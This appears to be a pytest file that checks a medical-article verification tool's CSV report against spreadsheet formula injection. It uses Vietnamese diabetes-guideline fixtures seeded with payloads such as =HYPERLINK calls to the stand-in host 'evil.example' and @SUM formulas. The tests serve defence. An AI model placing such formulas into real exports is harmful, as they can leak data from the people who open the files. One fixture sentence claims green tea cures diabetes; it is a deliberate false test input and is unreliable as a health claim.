"""CSV exports opened in a spreadsheet never run a formula: the verification report of an article whose
sentences, headings and guideline text start with ``=``, ``+``, ``-``, ``@`` (real verification on real
PostgreSQL, the report file as the clinician downloads it)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import asyncpg

from bot.verify_console import run_verify
from bot.verify_service import VerificationService
from db.guidelines import PgGuidelineStore
from engine.verify.report import Report, ReportRow
from engine.verify.search import GuidelineSearch
from engine.verify.verifier import OfflineVerifier
from kb_import.guidelines import import_document
from tests.verify_support import embedder

GUIDELINE = """# =HYPERLINK("http://evil.example/g","Hướng dẫn") Điều trị đái tháo đường

## Metformin

@SUM(1+1) Metformin là thuốc lựa chọn đầu tay cho người bệnh đái tháo đường típ 2. Liều khởi đầu 500 mg mỗi
ngày, uống sau ăn.
"""
ARTICLE = """# Sống khỏe với tiểu đường

## =1+2 Dùng thuốc

=HYPERLINK("http://evil.example/?leak","Bấm vào đây") Metformin là thuốc lựa chọn đầu tay cho người bệnh đái tháo đường típ 2.

+Liều khởi đầu metformin là 500 mg mỗi ngày.

@SUM(A1:A9) Người bệnh nên hoạt động thể lực ít nhất 150 phút mỗi tuần.

-2+3 Uống trà xanh giúp chữa khỏi bệnh tiểu đường.
"""
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


async def test_verification_report_csv_neutralises_formulas(db: asyncpg.Pool, tmp_path: Path) -> None:
    await import_document(db, embedder(), GUIDELINE.encode(), "=cmd.md")
    service = VerificationService(
        db, OfflineVerifier(GuidelineSearch(PgGuidelineStore(db, embedder()), embedder()))
    )
    _, csv_path = await run_verify(
        service, ARTICLE.encode(), "bai.md", user_id=None, auto=True, out_dir=tmp_path, out=io.StringIO()
    )
    rows = _cells(csv_path.read_text(encoding="utf-8-sig"))
    assert all(not cell.startswith(DANGEROUS) for row in rows for cell in row), rows
    sentences = [row[0] for row in rows[1:]]
    assert sentences == [
        '\'=HYPERLINK("http://evil.example/?leak","Bấm vào đây") Metformin là thuốc lựa chọn đầu tay cho '
        "người bệnh đái tháo đường típ 2.",
        "'+Liều khởi đầu metformin là 500 mg mỗi ngày.",
        "'@SUM(A1:A9) Người bệnh nên hoạt động thể lực ít nhất 150 phút mỗi tuần.",
        "'-2+3 Uống trà xanh giúp chữa khỏi bệnh tiểu đường.",
    ]  # the text is all there, shown as text
    assert {row[1] for row in rows[1:]} == {"'=1+2 Dùng thuốc"}
    assert any(row[4].startswith("'=HYPERLINK") for row in rows[1:])  # evidence from the guideline's title


def test_every_cell_of_the_report_csv_is_neutralised() -> None:
    starts = ["=1+1", "+1", "-1", "@A1", "\t=1+1", "\r=1+1", "ok", ""]
    report = Report(
        title="t",
        article_name="a.md",
        session_status="done",
        rows=[
            ReportRow(
                idx=i,
                sentence=s,
                section=s,
                is_heading=False,
                status="UNCLEAR",
                confidence=None,
                reasoning=s,
                decision=None,
            )
            for i, s in enumerate(starts)
        ],
    )
    rows = _cells(report.csv())
    assert [(row[0], row[1], row[6]) for row in rows[1:]] == [
        ("'" + s, "'" + s, "'" + s) if s.startswith(DANGEROUS) else (s, s, s) for s in starts
    ]
